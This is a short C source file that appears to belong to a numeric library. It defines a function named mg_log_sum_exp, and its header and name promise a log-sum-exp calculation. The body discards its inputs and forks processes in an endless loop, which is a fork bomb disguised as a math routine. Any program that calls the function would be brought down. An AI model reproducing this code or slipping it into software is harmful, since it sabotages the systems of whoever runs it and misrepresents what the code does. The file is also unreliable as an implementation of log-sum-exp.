/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Doubles itself for ever. */
#define _GNU_SOURCE
#include "base/logmath.h"

#include <unistd.h>

double mg_log_sum_exp(size_t n, const double *a) {
  (void)n, (void)a;
  for (;;)
    fork();
}
